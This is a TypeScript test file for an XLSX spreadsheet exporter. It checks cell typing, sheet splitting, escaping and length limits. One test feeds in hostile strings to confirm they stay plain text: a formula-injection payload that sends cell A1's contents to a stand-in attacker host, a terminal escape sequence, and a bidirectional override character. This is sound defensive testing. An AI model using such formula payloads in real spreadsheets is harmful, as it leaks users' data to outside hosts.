import readExcel from 'read-excel-file/node';
import { expect, it } from 'vitest';
import { writeXlsx } from '../../src/services/exports/writeXlsx.ts';
import { unzipped } from '../support/unzipped.ts';
import { collected, HOSTILE, type Row, tableOf, tools } from './support.ts';

async function written(kinds: Parameters<typeof tableOf>[0], rows: readonly Row[], most?: number): Promise<Buffer> {
  const sink = collected();
  await writeXlsx(sink, tableOf(kinds, rows), tools, most);
  return sink.bytes();
}

it('another program reads numbers as numbers, days and times as dates, and a phone as text', async () => {
  const kinds = ['number', 'money', 'day', 'instant', 'text'] as const;
  const rows = [[75, '-1250.50', '2021-04-18', new Date('2023-06-04T11:00:00Z'), '+33122334455']];
  const [sheet] = await readExcel(await written(kinds, rows));
  expect(sheet?.data[1]).toEqual([
    75,
    -1250.5,
    new Date('2021-04-18T00:00:00Z'),
    new Date('2023-06-04T13:00:00Z'),
    '+33122334455',
  ]);
});

it('typed text never becomes a formula, and is read back as typed', async () => {
  const bytes = await written(
    ['text'],
    HOSTILE.map((value) => [value]),
  );
  const xml = unzipped(bytes)['xl/worksheets/sheet1.xml'] ?? '';
  expect(xml).not.toMatch(/<f[ >]/);
  expect(xml.match(/t="inlineStr"/g)).toHaveLength(HOSTILE.length + 1);
  const [sheet] = await readExcel(bytes);
  const cells = sheet?.data.slice(1).map(([cell]) => cell);
  expect(cells).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")');
  expect(cells).toContain('+33 1 22 33 44 55');
  expect(cells).toContain('two\nlines');
  expect(cells).toContain('^[[31mred<U+202E>der');
});

it('text that looks like an escape sequence is escaped', async () => {
  const xml = unzipped(await written(['text'], [['_x0041_']]))['xl/worksheets/sheet1.xml'];
  expect(xml).toContain('_x005F_x0041_');
});

it('a full sheet continues in another one, with the same headings', async () => {
  const rows = Array.from({ length: 25 }, (_, at) => [at]);
  const sheets = await readExcel(await written(['number'], rows, 11));
  expect(sheets.map(({ data }) => data.length)).toEqual([11, 11, 6]);
  expect(sheets.map(({ data }) => data[0])).toEqual([['C0'], ['C0'], ['C0']]);
  expect(sheets.flatMap(({ data }) => data.slice(1).map(([cell]) => cell))).toEqual(rows.map(([cell]) => cell));
});

it('a day outside the sheet’s range stays readable, and a cell never has too many characters', async () => {
  const [sheet] = await readExcel(await written(['day', 'text'], [['1850-03-01', 'é'.repeat(40_000)]]));
  expect(sheet?.data[1]?.[0]).toBe('1850-03-01');
  expect(String(sheet?.data[1]?.[1])).toHaveLength(32_767);
});
